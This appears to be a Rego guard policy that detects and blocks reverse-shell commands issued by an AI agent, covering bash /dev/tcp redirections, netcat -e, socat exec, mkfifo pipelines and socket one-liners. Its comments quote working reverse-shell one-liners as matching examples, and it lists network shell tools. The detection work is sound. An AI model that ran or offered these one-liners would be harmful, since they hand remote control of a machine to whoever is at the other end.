# METADATA
# title: Reverse shells
# description: |
#   A shell or interpreter wired to a network connection, so whoever is at the other end types
#   its commands: bash's /dev/tcp redirections, descriptors duplicated from a socket
#   (`sh <&3 >&3`), netcat / ncat with a program (-e, --sh-exec), socat with an exec: address,
#   a shell fed by netcat or telnet (the mkfifo pipeline, `telnet … | sh`), commands read from
#   /dev/tcp, and one-liners that connect a socket and run a shell (Python's os.dup2 / pty.spawn,
#   perl, ruby, php, awk). Each blocks, unless the user's own words named exactly that command;
#   then it asks.
# schemas:
#   - input: schema.input
#   - data.tasks: schema.tasks
package opafence.guards.reverse_shell

import data.opafence.guards.common
import data.opafence.lib.reason

deny contains f.reason if {
	some f in findings
	not f.soft
}

ask contains common.asked(f.reason) if {
	some f in findings
	f.soft
}

shells := {
	"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "tcsh", "csh", "rbash", "busybox", "python",
	"python2", "python3", "perl", "ruby", "php", "node", "lua", "pwsh", "powershell", "irb", "tclsh",
}

network_tools := {"nc", "ncat", "netcat", "telnet", "socat", "cryptcat", "pwncat", "sbd", "openssl"}

shell(c) if common.cmd_name(c) in shells

shell(c) if regex.match(`^python[0-9.]*$`, common.cmd_name(c))

socket_path(p) if regex.match(`^/dev/(tcp|udp)/`, p)

socket_redirect(c) if {
	some r in c.redirects
	socket_path(r.raw)
}

call_has_socket if {
	some c in common.commands
	socket_redirect(c)
}

# A descriptor above stderr duplicated onto a standard stream: a socket someone opened.
fd_dup(c) if {
	some r in c.redirects
	r.op in {"<&", ">&", "<>", "&>"}
	regex.match(`^[0-9]+$`, r.raw)
	to_number(r.raw) > 2
}

# Reads its program from standard input: no script operand, no -c / -e program.
interactive(c) if {
	count([o | some o in c.operands; o != "-"]) == 0
	not inline_program(c)
}

interactive(c) if common.has_flag(c, "-i")

inline_program(c) if {
	some f in {"-c", "-e", "-m", "--eval", "-E", "-r"}
	common.has_flag(c, f)
}

network_tool(c) if {
	common.cmd_name(c) in network_tools
	common.cmd_name(c) != "openssl"
}

network_tool(c) if {
	common.cmd_name(c) == "openssl"
	"s_client" in c.argv
}

# METADATA
# title: REVERSE_SHELL
# description: "`{{.command}}` connects a shell to the network: whoever is at the other end runs commands here."
# custom:
#   code: REVERSE_SHELL
#   fix: Do not open remote shells from the agent; a person sets up remote access (ssh) themselves.
findings contains {"reason": reason.render(rego.metadata.rule(), {"command": common.shown(c)}), "soft": soft(c)} if {
	some c in common.commands
	reverse_shell(c)
}

# bash -i >& /dev/tcp/host/port 0>&1
reverse_shell(c) if {
	shell(c)
	socket_redirect(c)
}

# exec 5<>/dev/tcp/host/port; sh <&5 >&5
reverse_shell(c) if {
	shell(c)
	fd_dup(c)
	call_has_socket
}

# php -r '$s=fsockopen(...);exec("/bin/sh -i <&3 >&3 2>&3");'
reverse_shell(c) if {
	shell(c)
	common.has_flag(c, "-i")
	fd_dup(c)
}

# while read l; do $l; done < /dev/tcp/host/port
reverse_shell(c) if {
	c.dynamic
	regex.match(`^\$|^$`, c.name)
	socket_redirect(c)
}

# exec 5<>/dev/tcp/host/port; cat <&5 | while read l; do $l >&5; done
reverse_shell(c) if {
	c.dynamic
	regex.match(`^\$|^$`, c.name)
	fd_dup(c)
	call_has_socket
}

# nc -e /bin/sh host port, ncat --sh-exec 'sh -i' host port
reverse_shell(c) if {
	common.cmd_name(c) in {"nc", "ncat", "netcat", "cryptcat", "pwncat"}
	some f in netcat_exec_flags[common.cmd_name(c)]
	common.has_flag(c, f)
}

netcat_exec_flags := {
	"nc": {"-e", "--exec"},
	"netcat": {"-e", "--exec"},
	"cryptcat": {"-e"},
	"pwncat": {"-e", "--exec"},
	"ncat": {"-e", "--exec", "-c", "--sh-exec", "--lua-exec"},
}

# socat tcp:host:port exec:'bash -li',pty
reverse_shell(c) if {
	common.cmd_name(c) == "socat"
	some a in common.args(c)
	regex.match(`(?i)^(exec|system):`, a)
	some b in common.args(c)
	regex.match(`(?i)^(tcp|udp|sctp|openssl|ssl|tcp4|tcp6|udp4|udp6)(-[a-z]+)?:`, b)
}

# mkfifo f; cat f | sh -i 2>&1 | nc host port > f;  telnet host p | sh | telnet host q
reverse_shell(c) if {
	shell(c)
	interactive(c)
	fed(c)
	some n in common.commands
	network_tool(n)
}

fed(c) if c.pipe_from != ""

fed(c) if {
	some r in c.redirects
	r.mode == "read"
}

# METADATA
# title: REVERSE_SHELL_CODE
# description: This code connects a socket to a shell or to its own standard streams, so whoever is at the other end runs commands here.
# custom:
#   code: REVERSE_SHELL
#   fix: Do not open remote shells from the agent; a person sets up remote access (ssh) themselves.
findings contains {"reason": reason.render(rego.metadata.rule(), {}), "soft": false} if code_shell

# Python: a socket duplicated onto stdin/stdout (os.dup2) or a pty spawned over it.
code_shell if {
	input.facts.code.network == true
	some call in input.facts.code.calls
	call in {"os.dup2", "pty.spawn"}
}

# perl / ruby / php / awk one-liners that open a socket and run a program (facts: inline_socket_exec).
code_shell if "inline_socket_exec" in input.facts.opaque_reasons

default soft(_) := false

soft(c) if common.soft_command(c, {c.name})
